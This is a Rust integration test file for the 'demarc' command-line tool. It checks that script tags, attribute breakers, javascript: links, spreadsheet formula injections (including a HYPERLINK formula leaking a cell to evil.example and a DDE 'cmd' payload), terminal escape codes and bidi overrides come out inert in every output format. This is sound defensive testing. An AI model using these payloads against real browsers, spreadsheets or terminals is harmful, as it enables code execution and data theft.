//! Hostile estates, catalogs and logs through every output format of the real binary:
//! script tags, attribute breakers, `javascript:` links, spreadsheet formulas, terminal
//! escape sequences and bidirectional overrides must come out as inert text.

use std::path::{Path, PathBuf};

use assert_cmd::Command;

const SCRIPT: &str = "<script>alert(1)</script>";
const BREAKER: &str = "\"'><img src=x onerror=alert(2)>";
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
const JS_LINK: &str = "javascript:alert(document.cookie)";

fn demarc() -> Command {
    let mut cmd = Command::cargo_bin("demarc").unwrap();
    cmd.env("NO_COLOR", "1")
        .env_remove("DEMARC_CATALOG")
        .env_remove("DEMARC_DB");
    cmd
}

fn write(dir: &Path, name: &str, content: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, content).unwrap();
    path
}

/// Run and return stdout, failing with stderr when the command fails.
fn stdout(cmd: &mut Command) -> String {
    let out = cmd.output().unwrap();
    assert!(
        out.status.success() || out.status.code() == Some(1),
        "failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// An estate whose free-text fields carry every attack. YAML double quotes spell the
/// control characters (`\e` is ESC, `\u202E` a right-to-left override).
fn hostile_estate(dir: &Path) -> PathBuf {
    let yaml = format!(
        r#"format: 1
organisation: {{name: {script:?}}}
teams:
  - {{id: platform, name: {breaker:?}, contact: platform@example.com}}
providers:
  - id: azure
    name: "@SUM(1+1)*cmd|' /C calc'!A0"
    offerings: [{{id: aoai, name: Azure OpenAI, service_model: paas}}]
  - {{id: other, name: "\e[31mOther\e[0m"}}
applications:
  - id: assistant
    name: {breaker:?}
    owner: platform
    data_classification: internal
    status: sanctioned
    endpoints: [assistant.example.com]
    components:
      - {{id: llm, kind: model, service_model: paas, provider: azure, offering: aoai}}
    duties:
      default: platform
    controls:
      prompt-filtering: {{status: implemented, statement: {formula:?}}}
      application-security: {{status: partial, statement: "-2+3 then \e[2J\e]0;pwned\a cleared \u202Eevil"}}
    evidence:
      - {{area: prompt-filtering, description: {script:?}, link: {js:?}, reviewer: "+cmd", reviewed: 2026-01-10, expires: 2027-01-10}}
      - {{area: application-security, description: "a|b [x](javascript:alert(3)) `code` \r\n\tnext", link: "https://wiki.example.com/ok", reviewer: "\tTab", reviewed: 2026-01-10}}
"#,
        script = SCRIPT,
        breaker = BREAKER,
        formula = FORMULA,
        js = JS_LINK,
    );
    write(dir, "estate.yaml", &yaml)
}

/// The seed catalog with a hostile title, source link and cell note.
fn hostile_catalog(dir: &Path) -> PathBuf {
    let seed = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../demarc-model/catalogs/csa-genai-2023.yaml"),
    )
    .unwrap();
    let url = "https://cloudsecurityalliance.org/blog/2023/07/28/generative-ai-proposed-shared-responsibility-model";
    assert!(seed.contains(url));
    let mut text = seed.replacen(
        "title: Generative AI shared responsibility model (CSA proposal, 2023)",
        &format!("title: {SCRIPT:?}"),
        1,
    );
    text = text.replacen(url, JS_LINK, 1);
    text = text.replacen(
        "  title: \"Generative AI: Proposed Shared Responsibility Model\"",
        &format!("  title: {BREAKER:?}"),
        1,
    );
    let note =
        "note: The provider supplies the GPUs and the training and inference infrastructure.";
    assert!(text.contains(note));
    text = text.replacen(note, &format!("note: {FORMULA:?}"), 1);
    write(dir, "catalog.yaml", &text)
}

/// A generic CSV proxy log whose user names and hosts carry the attacks.
const HOSTILE_LOG: &str = "when,who,dest,up
2024-05-01T10:00:00Z,\"=cmd|' /C calc'!A0\",chat.deepseek.com,100
2024-05-01T10:00:01Z,\"=cmd|' /C calc'!A0\",chat.deepseek.com,100
2024-05-01T10:00:02Z,\"=cmd|' /C calc'!A0\",chat.deepseek.com,100
2024-05-01T10:00:03Z,\"<script>alert(1)</script>\",chat.deepseek.com,100
2024-05-01T10:00:04Z,\"\"\"'><img src=x onerror=alert(2)>\",chat.deepseek.com,100
2024-05-01T10:00:05Z,\"evil\x1b[2J\x1b]0;pwned\x07\u{202E}user\",chat.deepseek.com,100
2024-05-01T10:00:06Z,\"+SUM(A1)\",claude.ai,100
2024-05-01T10:00:07Z,\"@me\",claude.ai,100
";

fn discover(format: &str) -> String {
    stdout(
        demarc()
            .args([
                "discover",
                "--log-format",
                "csv",
                "--map",
                "host=dest,user=who,time=when,sent=up",
                "--format",
                format,
                "-",
            ])
            .write_stdin(HOSTILE_LOG),
    )
}

/// No markup from the data: no script, no image, every link a web address, no event handler
/// attribute.
fn assert_inert_html(what: &str, html: &str) {
    let lower = html.to_ascii_lowercase();
    for bad in [
        "<script",
        "<img",
        "<svg",
        "<iframe",
        "javascript:alert(1)</",
    ] {
        assert!(!lower.contains(bad), "{what}: {bad} in\n{html}");
    }
    assert!(!html.contains("\"'>"), "{what}: an attribute broke out");
    for (i, _) in lower.match_indices("href=") {
        let value = &lower[i + 5..];
        // A web address, or a fragment within the report itself (the heat map's `#app-ID`).
        assert!(
            value.starts_with("\"https://")
                || value.starts_with("\"http://")
                || value.starts_with("\"#"),
            "{what}: a link that is no web address: {}",
            &html[i..(i + 60).min(html.len())]
        );
    }
    assert!(html.contains("Content-Security-Policy"), "{what}: no CSP");
    assert!(
        html.contains("&#60;script&#62;alert(1)&#60;/script&#62;"),
        "{what}: the text is lost"
    );
}

/// Every cell of every row: none a spreadsheet would run.
fn assert_no_formula_cells(what: &str, text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert!(rows.len() > 1, "{what}: no rows");
    for row in &rows {
        assert_eq!(row.len(), rows[0].len(), "{what}: ragged row {row:?}");
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: formula cell {cell:?}"
            );
        }
    }
    rows
}

/// No raw HTML, no link syntax, no control characters.
fn assert_inert_markdown(what: &str, md: &str) {
    for (i, c) in md.char_indices() {
        if matches!(c, '<' | '[') {
            assert!(
                md[..i].ends_with('\\'),
                "{what}: unescaped {c} at {}",
                &md[i.saturating_sub(30)..(i + 30).min(md.len())]
            );
        }
    }
    assert_terminal_safe(what, md);
}

/// Nothing that moves the cursor, recolours, rings or reorders a terminal.
fn assert_terminal_safe(what: &str, text: &str) {
    for c in text.chars() {
        assert!(
            c == '\n' || !(c.is_control() || ('\u{202A}'..='\u{202E}').contains(&c)),
            "{what}: raw {c:?} in\n{text}"
        );
    }
}

#[test]
fn hostile_estate_in_every_assess_format() {
    let dir = tempfile::tempdir().unwrap();
    let estate = hostile_estate(dir.path());
    let assess = |format: &str| {
        stdout(
            demarc()
                .args([
                    "assess",
                    "--no-store",
                    "--today",
                    "2026-06-01",
                    "--format",
                    format,
                ])
                .arg(&estate),
        )
    };

    let html = assess("html");
    assert_inert_html("assess html", &html);
    assert!(html.contains("&#34;&#39;&#62;&#60;img src=x onerror=alert(2)&#62;"));
    // The evidence link is no web address: text, not a link.
    assert!(html.contains(JS_LINK));

    let csv = assess("csv");
    let rows = assert_no_formula_cells("assess csv", &csv);
    let statement = rows[0]
        .iter()
        .position(|h| h == "control_statement")
        .unwrap();
    assert!(
        rows.iter().any(|r| r[statement] == format!("'{FORMULA}")),
        "the formula is kept as text: {rows:?}"
    );

    let md = assess("markdown");
    assert_inert_markdown("assess markdown", &md);
    assert!(md.contains("\\<script\\>alert(1)\\</script\\>"));
    assert!(md.contains("a\\|b \\[x\\](javascript:alert(3)) `code`"));

    let table = assess("table");
    assert_terminal_safe("assess table", &table);
    assert!(table.contains("\\u{1b}[2J"), "escapes are shown: {table}");
    assert!(table.contains(SCRIPT), "a terminal shows text as it is");

    let json: serde_json::Value = serde_json::from_str(&assess("json")).unwrap();
    assert_eq!(
        json["organisation"], SCRIPT,
        "JSON carries the data exactly"
    );
}

#[test]
fn hostile_estate_in_explain_and_what_if() {
    let dir = tempfile::tempdir().unwrap();
    let estate = hostile_estate(dir.path());
    let text = stdout(demarc().arg("explain").arg(&estate).arg("assistant"));
    assert_terminal_safe("explain text", &text);
    assert!(text.contains(BREAKER));
    let json: serde_json::Value = serde_json::from_str(&stdout(
        demarc()
            .args(["explain", "--format", "json"])
            .arg(&estate)
            .arg("assistant"),
    ))
    .unwrap();
    assert!(json.is_array());
    for format in ["table", "json"] {
        let text = stdout(
            demarc()
                .args([
                    "what-if",
                    "--service-model",
                    "saas",
                    "--provider",
                    "other",
                    "--all",
                    "--today",
                    "2026-06-01",
                    "--format",
                    format,
                ])
                .arg(&estate)
                .arg("assistant"),
        );
        assert_terminal_safe(&format!("what-if {format}"), &text);
    }
}

#[test]
fn hostile_catalog_in_every_matrix_format() {
    let dir = tempfile::tempdir().unwrap();
    let catalog = hostile_catalog(dir.path());
    let matrix = |format: &str| {
        stdout(
            demarc()
                .args(["matrix", "--format", format, "--catalog"])
                .arg(&catalog),
        )
    };
    let html = matrix("html");
    assert_inert_html("matrix html", &html);
    assert!(
        !html.contains("<a href"),
        "the javascript: source is no link"
    );
    assert!(html.contains(JS_LINK), "but it is shown");
    assert_no_formula_cells("matrix csv", &matrix("csv"));
    assert!(matrix("csv").contains(&format!("\"'{}\"", FORMULA.replace('"', "\"\""))));
    assert_inert_markdown("matrix markdown", &matrix("markdown"));
    assert_terminal_safe("matrix table", &matrix("table"));
    let json: serde_json::Value = serde_json::from_str(&matrix("json")).unwrap();
    assert_eq!(json["catalog"]["source"]["url"], JS_LINK);
}

#[test]
fn hostile_logs_in_every_discover_format() {
    let html = discover("html");
    assert_inert_html("discover html", &html);
    assert!(html.contains("=cmd|&#39; /C calc&#39;!A0"));

    let csv = discover("csv");
    let rows = assert_no_formula_cells("discover csv", &csv);
    let top = rows[0].iter().position(|h| h == "top_user").unwrap();
    let tops: Vec<&str> = rows[1..].iter().map(|r| r[top].as_str()).collect();
    assert!(tops.contains(&"'=cmd|' /C calc'!A0"), "{tops:?}");
    // Computed numbers stay numbers.
    let requests = rows[0].iter().position(|h| h == "requests").unwrap();
    assert!(rows[1..].iter().all(|r| r[requests].parse::<u64>().is_ok()));

    let table = discover("table");
    assert_terminal_safe("discover table", &table);

    let json: serde_json::Value = serde_json::from_str(&discover("json")).unwrap();
    let users: Vec<&str> = json["services"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|s| s["top_users"].as_array().unwrap())
        .map(|u| u["user"].as_str().unwrap())
        .collect();
    assert!(
        users.contains(&"evil\x1b[2J\x1b]0;pwned\x07\u{202E}user"),
        "{users:?}"
    );
}

#[test]
fn hostile_user_names_in_recorded_runs() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}", dir.path().join("store.db").display());
    let base = "when,who,dest\n2024-05-01T09:00:00Z,alice,claude.ai\n2024-05-01T09:00:01Z,alice,chat.deepseek.com\n";
    for log in [base, HOSTILE_LOG] {
        demarc()
            .args([
                "discover",
                "--log-format",
                "csv",
                "--map",
                "host=dest,user=who,time=when",
                "--record",
                "--db",
                &db,
                "-",
            ])
            .write_stdin(log)
            .assert()
            .success();
    }
    for args in [
        vec!["discover", "runs"],
        vec!["discover", "show", "2"],
        vec!["discover", "diff", "1", "2"],
    ] {
        let text = stdout(demarc().args(&args).args(["--db", &db]));
        assert_terminal_safe(&args.join(" "), &text);
        if args[1] == "diff" {
            assert!(
                text.contains("evil\\u{1b}[2J"),
                "the new user is shown: {text}"
            );
        }
    }
}
